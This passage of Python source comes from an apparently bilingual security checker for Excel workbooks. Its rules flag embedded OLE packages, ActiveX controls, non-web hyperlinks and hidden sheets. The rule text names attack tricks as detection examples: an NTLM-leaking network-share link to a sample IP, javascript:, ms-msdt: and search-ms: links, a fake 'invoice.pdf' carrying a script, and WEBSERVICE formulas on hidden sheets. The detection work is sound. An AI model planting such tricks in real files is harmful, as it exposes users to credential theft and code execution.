    双击嵌入对象会用相应程序打开它；打包对象（``Package``）可以携带任意文件——``.exe``、``.js``、``.lnk``
    ——双击即打开或运行。链接对象更新时会启动对应程序并读取外部文件。
示例：
    图标显示为「发票.pdf」的对象，实际携带 ``invoice.js``。
如何修复：
    选中该对象按 Delete；链接对象在「数据 ▸ 编辑链接」中断开。
""")
def embedded_object(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """A sheet holds an embedded or linked OLE object (a packaged file, a Word or PDF document, a link to a file).

    What it checks:
        Objects in ``xl/embeddings/`` with their sheet and program id (``Package``, ``Word.Document.12`` …), the
        name of the file a packaged object carries, and objects linked to an outside file (an ``oleObject`` link,
        an ``oleLink`` in ``xl/externalLinks``).
    Why it matters:
        Double-clicking an embedded object opens it with its program; a packaged object (``Package``) can carry any
        file — ``.exe``, ``.js``, ``.lnk`` — which double-clicking opens or runs. Updating a linked object starts
        its program and reads the outside file.
    Example:
        An object whose icon says "invoice.pdf" but which carries ``invoice.js``.
    How to fix:
        Select the object and press Delete; break a linked one in *Data ▸ Edit Links*.
    """
    hint = ("选中该对象按 Delete（链接对象：「数据 ▸ 编辑链接 ▸ 断开链接」）",
            "select the object and press Delete (a linked one: Data ▸ Edit Links ▸ Break Link)")
    for note in _notes(plan, "ole-object", "ole-link"):
        why = _unreadable(note)
        program = note.name or "OLE"
        if why is not None:
            zh, en = f"嵌入对象无法读取（{why}）", f"embedded objects could not be read ({why})"
        elif note.kind == "ole-link" or "linked" in note.details:
            target = unquote(note.target) or "?"
            zh = f"对象（{program}）链接到 {target}：更新时 Excel 会启动对应程序并读取该文件"
            en = f"an object ({program}) is linked to {target}: updating it starts its program and reads that file"
        elif note.target:
            zh = f"嵌入对象（{program}，{note.part}）携带文件 {ctx.quote(note.target)}：双击会打开或运行该文件"
            en = (f"an embedded object ({program}, {note.part}) carries the file {ctx.quote(note.target)}: "
                  "double-clicking it opens or runs that file")
        else:
            zh = f"嵌入对象（{program}，{note.part}）：双击会启动创建它的程序并打开它"
            en = f"an embedded object ({program}, {note.part}): double-clicking it starts its program and opens it"
        yield ctx.finding(_where(note), zh, en, field=program, value=note.target or note.part, hint=hint)


@rule("SEC010", "activex-control", W, "ActiveX 控件", doc_zh="""
工作表中有 ActiveX 控件。

检查内容：
    ``xl/activeX/`` 中的控件及其所在工作表、控件名称和类别（CLSID，已知时给出名称，如
    ``Forms.CommandButton.1``）。同一工作表中同类的控件合并为一条。
为什么重要：
    显示工作表时，Excel 会加载控件对应的程序组件（COM 控件）；控件事件（如 ``_Painted``、``_Click``）是宏
    自动运行的常见入口。活动计划用普通单元格和数据验证下拉框就够了。
示例：
    工作表 ``任务`` 上名为 ``CommandButton1`` 的按钮控件。
如何修复：
    「开发工具 ▸ 设计模式」，选中控件按 Delete。
""")
def activex_control(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """A sheet holds ActiveX controls.

    What it checks:
        Controls in ``xl/activeX/`` with their sheet, name and class (the CLSID, with its name when known, e.g.
        ``Forms.CommandButton.1``). Controls of one class on one sheet make one finding.
    Why it matters:
        Showing the sheet makes Excel load the program component (COM control) behind each control, and control
        events (``_Painted``, ``_Click`` …) are a common way for macros to run by themselves. A campaign plan needs
        plain cells and validation dropdowns only.
    Example:
        A button ``CommandButton1`` on the *Tasks* sheet.
    How to fix:
        *Developer ▸ Design Mode*, select the control, press Delete.
    """
    groups: dict[tuple[str, str], list[SecurityNote]] = {}
    for note in _notes(plan, "activex"):
        groups.setdefault((note.sheet, note.target), []).append(note)
    for (_, control_class), notes in groups.items():
        names = _listed([n.name or n.part for n in notes], ctx)
        kind = control_class or ctx.t("未知类别", "unknown class")
        yield ctx.finding(_where(notes[0]), f"{len(notes)} 个 ActiveX 控件（{names}；{kind}）：显示工作表时会加载对应的程序"
                                            "组件，工作簿的宏可以响应它们",
                          f"{_count(len(notes), 'ActiveX control')} ({names}; {kind}): showing the sheet loads the "
                          "program component behind each, and the workbook's macros can react to them", field="activex",
                          value=control_class, hint=("「开发工具 ▸ 设计模式」中选中控件按 Delete",
                                                     "Developer ▸ Design Mode, select the control, press Delete"))


# What a link does, after its subject ("the link", "a shape's link", "the HYPERLINK formula's link").
_LINK_RISKS = {
    X.UNC: ("指向网络共享 {target}：点击时 Windows 会把用户的登录凭据（NTLM 哈希）发给该服务器",
            "goes to the network share {target}: clicking it makes Windows send the user's sign-in (NTLM hash) to "
            "that server"),
    X.FILE: ("打开文件 {target}：如果那里是程序或脚本，点击后就会运行（Excel 只提示一次）",
             "opens the file {target}: a program or script there runs when clicked (Excel warns once)"),
    X.SCRIPT: ("在点击时运行脚本代码：{target}", "runs script code when clicked: {target}"),
    X.SCHEME: ("把 {target} 交给注册了该协议的程序处理——这类协议处理程序曾被用来运行代码（如 ms-msdt、search-ms）",
               "hands {target} to whatever program handles its scheme — such handlers have been used to run code "
               "(ms-msdt, search-ms)"),
}
_LINK_SUBJECTS = {"cell": ("超链接", "the hyperlink"), "shape": ("形状上的超链接", "a shape's hyperlink"),
                  "formula": ("HYPERLINK 公式的链接", "the HYPERLINK formula's link")}


@rule("SEC011", "non-web-hyperlink", W, "非网页超链接", doc_zh="""
超链接指向的不是网页或邮件地址：本地文件、网络共享、脚本或其他协议。

检查内容：
    单元格超链接、形状和图片上的超链接，以及 ``HYPERLINK()`` 公式中写明的目标：``file:`` 地址、网络共享路径
    （``\\\\服务器\\共享``）、``javascript:`` 等脚本地址、其他协议（``ms-msdt:``、``search-ms:`` 等），以及指向
    非电子表格文件的路径。``http(s)``、``mailto`` 和工作簿内的位置不算；指向另一个电子表格文件的路径（如
    ``update --out`` 和组合汇总写的回链）也不算。
为什么重要：
    点击网络共享链接会让 Windows 把用户的登录凭据发给那台服务器；指向 ``.exe``、``.js``、``.lnk`` 的链接会
    运行程序；脚本和特殊协议曾被用来直接执行代码。链接文字可以写成任何样子。
示例：
    显示为「活动方案」的单元格，链接到 ``\\\\203.0.113.9\\share\\plan.lnk``。
如何修复：
    右键 ▸ 删除超链接（形状：右键 ▸ 链接 ▸ 删除链接；公式：删除公式）。
""")
def non_web_hyperlink(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """A hyperlink goes somewhere other than a web or mail address: a local file, a network share, a script.

    What it checks:
        Cell hyperlinks, hyperlinks on shapes and pictures, and the target a ``HYPERLINK()`` formula names:
        ``file:`` addresses, network shares (``\\\\server\\share``), script URLs (``javascript:`` …), other schemes
        (``ms-msdt:``, ``search-ms:`` …) and paths to files that are not spreadsheets. ``http(s)``, ``mailto``
        and places inside the workbook are fine, and so is a path to another spreadsheet file (the links
        ``update --out`` and the portfolio write back to a campaign).
    Why it matters:
        Clicking a link to a network share makes Windows send the user's sign-in to that server; a link to an
        ``.exe``, ``.js`` or ``.lnk`` runs a program; script URLs and special schemes have been used to run code
        directly. A link's text can say anything.
    Example:
        A cell showing "Campaign plan" that links to ``\\\\203.0.113.9\\share\\plan.lnk``.
    How to fix:
        Right-click ▸ *Remove Hyperlink* (a shape: right-click ▸ *Link ▸ Remove Link*; a formula: delete it).
    """
    hint = ("右键 ▸ 删除超链接（形状：右键 ▸ 链接 ▸ 删除链接）",
            "right-click ▸ Remove Hyperlink (a shape: right-click ▸ Link ▸ Remove Link)")
    for note in _notes(plan, "hyperlink"):
        why = _unreadable(note)
        if why is not None:
            yield ctx.finding(None, f"形状的超链接无法读取（{why}）", f"the hyperlinks of shapes could not be read "
                              f"({why})", value=note.part, hint=hint)
            continue
        risk = X.link_risk(note.target)
        if risk is None:
            continue
        zh, en = _LINK_RISKS[risk]
        subject_zh, subject_en = _LINK_SUBJECTS["shape" if note.name == "shape" else "cell"]
        yield ctx.finding(_where(note), subject_zh + zh.format(target=note.target),
                          f"{subject_en} {en.format(target=note.target)}", field=risk, value=note.target, hint=hint)
    for note, hit in _formula_hits(plan):
        if hit.kind != X.LINK:
            continue
        risk = X.link_risk(hit.argument)
        if risk is None:
            continue
        zh, en = _LINK_RISKS[risk]
        subject_zh, subject_en = _LINK_SUBJECTS["formula"]
        yield ctx.finding(_where(note), subject_zh + _in_name(note, ctx) + zh.format(target=hit.argument),
                          f"{subject_en}{_in_name(note, ctx)} {en.format(target=hit.argument)}", field=risk,
                          value=hit.argument, hint=("删除该公式", "delete the formula"))


# --- hidden content ------------------------------------------------------------------------------------------------


def _risky_cells(plan: Plan, sheet: str) -> list[SecurityNote]:
    return [note for note in _notes(plan, "formula") if note.sheet == sheet
            and any(_risky(hit) for hit in X.formula_hits(note.target))]


def _first(notes: list[SecurityNote]) -> str:
    first = min(notes, key=lambda n: (n.row, n.col))
    return a1(first.row, first.col) if first.row and first.col else "?"


def _macro_sheets(plan: Plan) -> set[str]:
    return {note.sheet for note in _notes(plan, "macro-sheet")}


@rule("SEC012", "very-hidden-sheet", INFO, "深度隐藏的工作表", doc_zh="""
工作表被深度隐藏：Excel 的「取消隐藏」列表中看不到它。

检查内容：
    工作簿中状态为 ``veryHidden`` 的工作表（宏表由 SEC004 报告）；若其中有运行程序或访问外部的公式，消息给出
    数量和第一个单元格。
为什么重要：
    深度隐藏只能通过 VBA 或直接修改文件设置，普通用户无从得知表里有什么——隐藏的数据、旧版本的价格，或配合
    宏使用的内容都可能藏在这里。
示例：
    名为 ``data_bak`` 的深度隐藏工作表。
如何修复：
    在副本中用 VBA 显示它（立即窗口：``Sheets("名称").Visible = True``），检查后如不需要就删除。
""")
def very_hidden_sheet(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """A sheet is very hidden: Excel's Unhide list does not show it.

    What it checks:
        Sheets whose state is ``veryHidden`` (macro sheets are SEC004); when such a sheet holds formulas that run
        or reach out, the message counts them and names the first cell.
    Why it matters:
        Only VBA or an edit of the file sets this state, and nobody using Excel sees what the sheet holds — hidden
        data, old prices, or what a macro works with.
    Example:
        A very hidden sheet ``data_bak``.
    How to fix:
        In a copy, show it with VBA (Immediate window: ``Sheets("name").Visible = True``), review it, and delete it
        if it is not needed.
    """
    macro_sheets = _macro_sheets(plan)
    for note in _notes(plan, "sheet-state"):
        if note.target != "veryHidden" or note.sheet in macro_sheets:
            continue
        risky = _risky_cells(plan, note.sheet)
        holds_zh = f"；其中有 {len(risky)} 个运行程序或访问外部的公式（首个：{_first(risky)}）" if risky else ""
        holds_en = f"; it holds {_count(len(risky), 'formula')} that run or reach out (first: {_first(risky)})" \
            if risky else ""
        yield ctx.finding((note.sheet, 0, None), f"工作表{ctx.quote(note.sheet)}被深度隐藏：「取消隐藏」中看不到它，只有 VBA "
                                                 f"或文件的 XML 能显示它{holds_zh}",
                          f"the sheet {ctx.quote(note.sheet)} is very hidden: Unhide does not list it, only VBA or the "
                          f"file's XML shows it{holds_en}", value=note.sheet,
                          hint=("在副本中用 VBA 显示它（Sheets(\"名称\").Visible = True），检查后不需要就删除",
                                "in a copy, show it with VBA (Sheets(\"name\").Visible = True), review it, delete it if "
                                "not needed"))


@rule("SEC013", "hidden-sheet-active-formulas", INFO, "隐藏工作表中有危险公式", doc_zh="""
隐藏的工作表中有运行程序或访问外部的公式。

检查内容：
    状态为 ``hidden`` 的工作表（非宏表）中，属于 SEC001、SEC005 或 SEC011 的公式；每个工作表一条，给出数量和
    第一个单元格。公式本身另由那些规则逐格报告。
为什么重要：
    把这类公式放到隐藏的工作表，是让人在打开文件时看不到它们的常见做法。
示例：
    隐藏工作表 ``Sheet3`` 的 ``A1`` 中有 ``=WEBSERVICE(…)``。
如何修复：
    右键任一工作表标签 ▸ 取消隐藏，检查并删除这些公式。
""")
def hidden_sheet_active_formulas(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """A hidden sheet holds formulas that run something or reach out.

    What it checks:
        Sheets whose state is ``hidden`` (not macro sheets) holding formulas of SEC001, SEC005 or SEC011; one
        finding per sheet with the count and the first cell. The formulas themselves are reported cell by cell by
        those rules.
    Why it matters:
        Putting such formulas on a hidden sheet is a common way to keep them out of sight of whoever opens the file.
    Example:
        ``=WEBSERVICE(…)`` in ``A1`` of the hidden sheet ``Sheet3``.
    How to fix:
        Right-click a sheet tab ▸ *Unhide*, review and delete those formulas.
    """
    macro_sheets = _macro_sheets(plan)
    for note in _notes(plan, "sheet-state"):
        if note.target != "hidden" or note.sheet in macro_sheets:
            continue
        risky = _risky_cells(plan, note.sheet)
        if not risky:
            continue
        first = min(risky, key=lambda n: (n.row, n.col))
        yield ctx.finding(_where(first) or (note.sheet, 0, None),
                          f"隐藏的工作表{ctx.quote(note.sheet)}中有 {len(risky)} 个运行程序或访问外部的公式（首个：{_first(risky)}）",
                          f"the hidden sheet {ctx.quote(note.sheet)} holds {_count(len(risky), 'formula')} that run or "
                          f"reach out (first: {_first(risky)})", value=len(risky),
                          hint=("右键任一工作表标签 ▸ 取消隐藏，检查并删除这些公式",
                                "right-click a sheet tab ▸ Unhide, review and delete those formulas"))
